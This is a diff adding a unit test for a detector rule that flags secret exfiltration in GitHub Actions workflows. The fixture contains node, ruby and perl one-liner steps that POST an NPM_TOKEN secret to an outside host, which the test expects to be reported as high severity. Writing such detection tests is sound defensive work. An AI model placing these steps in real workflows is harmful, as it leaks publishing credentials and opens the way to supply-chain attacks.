@@ -326,6 +326,20 @@ describe('gha-secrets-exfiltration', () => {
     expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['high:6', 'high:9', 'high:15', 'high:18', 'high:21']);
   });
 
+  it("reads an inline script's variable by every name-read the code rules know (ENV_VARIABLE_READ: process.env['T'], ENV.fetch, os.Getenv…) and Perl's $ENV{T}", () => {
+    const sent = `on: push\n${job(`      - run: node -e "fetch('https://api.build-insights.dev/x',{method:'POST',body:process.env['T']})"
+        env:
+          T: \${{ secrets.NPM_TOKEN }}
+      - run: ruby -e "require 'net/http'; Net::HTTP.post(URI('https://api.build-insights.dev/x'), ENV.fetch('T'))"
+        env:
+          T: \${{ secrets.NPM_TOKEN }}
+      - run: perl -MHTTP::Tiny -e 'HTTP::Tiny->new->post_form("https://api.build-insights.dev/x", { k => $ENV{T} })'
+        env:
+          T: \${{ secrets.NPM_TOKEN }}
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration').map(([, severity, line]) => `${severity}:${line}`)).toEqual(['high:6', 'high:9', 'high:12']);
+  });
+
   it("an inline script that sends a secret as its own service's header, auth or login, or waits on a local port, is not reported", () => {
     const own = `on: push\n${job(`      - run: python3 -c "import os,urllib.request;urllib.request.urlopen(urllib.request.Request('https://registry.npmjs.org/-/whoami', headers={'Authorization': 'Bearer ' + os.environ['NPM_TOKEN']}))"
         env:
